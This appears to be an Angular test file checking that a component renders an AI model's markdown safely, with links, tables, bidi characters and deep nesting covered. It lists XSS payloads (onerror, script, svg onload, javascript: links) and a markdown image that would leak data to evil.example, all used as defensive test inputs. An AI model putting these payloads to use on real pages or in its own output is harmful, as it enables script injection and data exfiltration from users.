import { TestBed } from '@angular/core/testing';
import { provideRouter } from '@angular/router';
import fc from 'fast-check';
import { requestPage } from '../../core/approvals/request-page';
import { markdownBlocks, spokenText } from './markdown-blocks';
import { MarkdownText } from './markdown-text';

function drawn(text: string): HTMLElement {
  const fixture = TestBed.createComponent(MarkdownText);
  fixture.componentRef.setInput('text', text);
  fixture.detectChanges();
  return fixture.nativeElement as HTMLElement;
}
const ALLOWED =
  'KENNY-MARKDOWN-BLOCKS KENNY-MARKDOWN-LINE KENNY-UNTRUSTED KENNY-COPY BDI SPAN MARK BUTTON ' +
  'P STRONG EM DEL CODE PRE DIV UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR A';

describe('Markdown of a model', () => {
  it('is paragraphs, lists, tables and code as elements', () => {
    const page = drawn(
      '# Disk\n\nThe disk is **very** full:\n\n- `photos` 87 GB\n- other\n\n' +
        '| folder | GB |\n|---|---|\n| photos | 87 |\n\n```sh\ndu -sh\n```\n',
    );
    expect(page.querySelector('.heading')?.textContent).toBe('Disk');
    expect(page.querySelector('strong')?.textContent).toBe('very');
    expect([...page.querySelectorAll('li')].map((li) => li.textContent)).toEqual([
      'photos 87 GB',
      'other',
    ]);
    expect(page.querySelector('td')?.textContent).toBe('photos');
    expect(page.querySelector('pre')?.textContent).toContain('du -sh');
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    'a <b onclick=x>b</b>',
    '![secret](https://evil.example/?q=data)',
    '[x](javascript:alert(1))',
    '[x](data:text/html,hi)',
    '<!-- hidden -->',
    '[name]: https://evil.example/',
    '<svg/onload=alert(1)>',
  ])('shows %s as it is written, and nothing else', (text) => {
    const page = drawn(text);
    expect(page.textContent).toContain(text);
    expect(page.querySelector('img, script, svg, a, iframe, b')).toBeNull();
  });

  it('says where a link leads, and opens it without telling who came', () => {
    const page = drawn('[your bank](https://evil.example/login) and https://ok.example/');
    const [first, second] = page.querySelectorAll('a');
    expect(first?.getAttribute('href')).toBe('https://evil.example/login');
    expect(first?.rel).toBe('noopener noreferrer nofollow');
    expect(page.textContent).toContain('your bank (https://evil.example/login)');
    expect(second?.getAttribute('href')).toBe('https://ok.example/');
    expect(page.textContent).not.toContain('(https://ok.example/)');
  });

  it('leads to a page of ours only where that is let in, in place', () => {
    const text = 'Decide it under [Approvals](/approvals/apr_1), [not](/settings) there.';
    expect(drawn(text).querySelector('a')).toBeNull();
    TestBed.resetTestingModule();
    TestBed.configureTestingModule({ providers: [provideRouter([])] });
    const fixture = TestBed.createComponent(MarkdownText);
    fixture.componentRef.setInput('text', text);
    fixture.componentRef.setInput('pageOf', requestPage);
    fixture.detectChanges();
    const page = fixture.nativeElement as HTMLElement;
    const links = [...page.querySelectorAll('a')];
    expect(links.map((one) => [one.textContent, one.getAttribute('href'), one.target])).toEqual([
      ['Approvals', '/approvals/apr_1', ''],
    ]);
    expect(page.textContent).toContain('[not](/settings)');
    expect(spokenText(text, { pageOf: requestPage })).toContain('under Approvals, [not]');
  });

  it.each([
    '//evil.example/apr_1',
    '/approvals/apr_1/../../settings',
    '/approvals/apr_1?x',
    'apr_1',
  ])('takes %s for no request', (href) => expect(requestPage(href)).toBeNull());

  it('marks what is hidden in it', () => {
    expect(drawn('a\u202eb').querySelector('mark')?.textContent).toBe('U+202E');
  });

  it('is not stopped by what is nested without end', () => {
    for (const text of ['>'.repeat(5_000), `${'- '.repeat(2_000)}x`, '*'.repeat(3_000)]) {
      expect(markdownBlocks(text).length).toBeGreaterThan(0);
    }
  });

  it('never has an element that is not ours, whatever it says', () => {
    const words = fc.constantFrom(
      ...['<b>', '</b>', '<script>', '**', '`', '```\n', '- ', '> ', '[a](', 'http://x.y/', ')'],
      ...['javascript:x', '![', '|', '\n', '\n\n', '---', '&lt;', 'x', '<img src=x>', '1. ', '\\'],
    );
    fc.assert(
      fc.property(fc.array(words, { maxLength: 25 }), (parts) => {
        const elements = [...drawn(parts.join('')).querySelectorAll('*')];
        for (const element of elements) {
          expect(ALLOWED.split(' ')).toContain(element.tagName);
          const href = element.getAttribute('href');
          if (href !== null) expect(href).toMatch(/^https?:/);
        }
      }),
      { numRuns: 60 },
    );
  });
});

describe('Markdown of a model, for those who hear it', () => {
  it('is what a reader sees, without marks and line breaks', () => {
    const text =
      '# Disk\n\nC: is **97 % full**:\n\n- `photos` 87 GB\n- other\n\n' +
      '| folder | GB |\n|---|---|\n| photos | 87 |\n\n[look](https://kenny.example/)';
    expect(spokenText(text)).toBe('Disk C: is 97 % full: photos 87 GB; other; photos, 87; look');
  });

  it('has no line break and no run of blanks, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        expect(spokenText(text)).not.toMatch(/[\n\r\t]| {2}/);
      }),
    );
  });
});
